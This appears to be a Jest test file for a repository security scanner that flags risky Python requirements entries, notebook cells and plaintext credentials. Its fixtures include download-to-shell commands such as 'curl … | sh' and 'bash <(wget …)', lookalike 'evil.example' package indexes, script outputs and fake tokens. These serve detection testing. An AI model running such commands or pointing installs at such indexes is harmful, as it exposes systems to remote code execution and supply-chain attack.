import { describe, expect, test } from '@jest/globals'
import { credentialsReader } from '../../../../src/domains/scan/configs/credentials.ts'
import { notebookReader } from '../../../../src/domains/scan/configs/notebook.ts'
import { requirementsReader } from '../../../../src/domains/scan/configs/requirements.ts'
import { found, readWith } from './rig.ts'

describe('requirements', () => {
  test.each([
    ['numpy==2.0\n# git+https://x\n', []],
    ['a @ git+https://github.com/o/r@main', ['note requirement-from-git a @ git+https://github.com/o/r@main']],
    ['-e git+ssh://git@github.com/o/r', ['note requirement-from-git -e git+ssh://git@github.com/o/r']],
    ['http://x/a.whl', ['review requirement-plain-http http://x/a.whl']],
    ['--index-url=http://x/simple', ['review requirement-plain-http --index-url=http://x/simple']],
    [
      '--extra-index-url https://download.pytorch.org/whl/cpu',
      ['note requirement-known-index --extra-index-url https://download.pytorch.org/whl/cpu'],
    ],
    [
      '--extra-index-url https://pypi.org.evil.example/x',
      ['review requirement-other-index --extra-index-url https://pypi.org.evil.example/x'],
    ],
    ['-i https://u:secret@x.example/simple', ['review requirement-other-index -i https://***@x.example/simple']],
    ['HTTPS://evil.example/a.whl', ['review requirement-from-url HTTPS://evil.example/a.whl']],
    ['a @ Git+HTTPS://github.com/o/r', ['note requirement-from-git a @ Git+HTTPS://github.com/o/r']],
    ['-i https://pypi.org:x@evil.example/simple', ['review requirement-other-index -i https://***@evil.example/simple']],
    ['-i https://pypi.org:443/simple', ['note requirement-known-index -i https://pypi.org:443/simple']],
    ['--no-index --find-links https://evil.example/', ['review requirement-other-index --no-index --find-links https://evil.example/']],
    ['-e "../.."', ['note requirement-from-path -e "../.."']],
    ['-e ../..', ['note requirement-from-path -e ../..']],
    ['--editable=./own', ['note requirement-from-path --editable=./own']],
    ['.[dev]', ['note requirement-from-path .[dev]']],
    ['../wheels/a.whl ; python_version > "3"', ['note requirement-from-path ../wheels/a.whl ; python_version > "3"']],
    ['numpy==1.26.4  # see ../README', []],
    ['-r ../requirements.txt', []],
    ['--trusted-host x', ['review requirement-trusted-host --trusted-host x']],
  ])('%j: %j', (text, expected) => {
    expect(found(requirementsReader, 'requirements-dev.txt', text)).toEqual(expected)
  })

  test('are found by name', () => {
    const text = '--trusted-host x'
    for (const name of ['requirements.txt', 'requirements.in', 'dev-requirements.txt', 'constraints.txt'])
      expect(found(requirementsReader, name, text)).toHaveLength(1)
    for (const name of ['vocab.txt', 'requirements.md', 'myrequirements.py']) expect(found(requirementsReader, name, text)).toBeUndefined()
  })
})

describe('notebooks', () => {
  const notebook = (source: unknown, data: unknown = {}) => JSON.stringify({ cells: [{ source, outputs: [{ data }] }], nbformat: 4 })
  test.each([
    [notebook(['pip install x\n', 'print(1)']), []],
    [notebook(['!curl -s https://x | sh']), ['review notebook-download-to-shell cell 1']],
    [notebook(['!curl -s \\\n', 'https://x | sudo bash']), ['review notebook-download-to-shell cell 1']],
    [notebook('!bash <(wget -qO- https://x)'), ['review notebook-download-to-shell cell 1']],
    [notebook('!curl https://x | shasum'), []],
    [notebook('!pip install -q git+https://x'), ['note notebook-install-from-git cell 1']],
    [notebook('', { 'application/javascript': ['alert(1)'] }), ['review notebook-script-output cell 1']],
    [notebook('', { 'application/javascript': 'alert(1)' }), ['review notebook-script-output cell 1']],
    [notebook('', { 'text/html': ['<SCRIPT src=x>'] }), ['note notebook-html-script cell 1']],
    [notebook('<script>', { 'text/plain': ['<script>'] }), []],
  ])('%s: %j', (text, expected) => {
    expect(found(notebookReader, 'a.ipynb', text)).toEqual(expected)
  })

  test('are recognized without their extension', () => {
    expect(found(notebookReader, 'a', notebook('!curl x | sh'))).toHaveLength(1)
    expect(found(notebookReader, 'a.json', '{"a": 1}')).toBeUndefined()
  })
})

describe('credentials', () => {
  const token = `hf_${'qBzDeFgHiJkLmNoPqRsTuVwXyZaRcVeFgH'}`
  test('are reported with kind, line and offset, and never shown', () => {
    const reading = readWith(credentialsReader, 'a.py', `é\nx = "${token}"\n`)
    expect(reading?.findings).toEqual([
      expect.objectContaining({ grade: 'review', technique: 'plaintext-credential', subject: 'token of Hugging Face, line 2', offset: 3 }),
    ])
    expect(JSON.stringify(reading)).not.toContain(token.slice(3))
  })

  test('of documentation are left out', () => {
    expect(found(credentialsReader, 'a.md', 'ghp_PersonalAccessToken01245678900000000')).toEqual([])
    expect(found(credentialsReader, 'a.md', 'starts with "-----BEGIN PRIVATE KEY-----"')).toEqual([])
    expect(
      found(credentialsReader, 'a.pem', `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj'.repeat(2)}`),
    ).toHaveLength(1)
    expect(
      found(credentialsReader, 'a.json', `{"k": "-----BEGIN PRIVATE KEY-----\\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj'.repeat(2)}"}`),
    ).toHaveLength(1)
  })

  test('are searched in text up to 1 MiB only', () => {
    expect(found(credentialsReader, 'a', `${token}\n${' '.repeat(1024 * 1024)}`)).toBeUndefined()
    expect(found(credentialsReader, 'a', `\0${token}`)).toBeUndefined()
  })
})
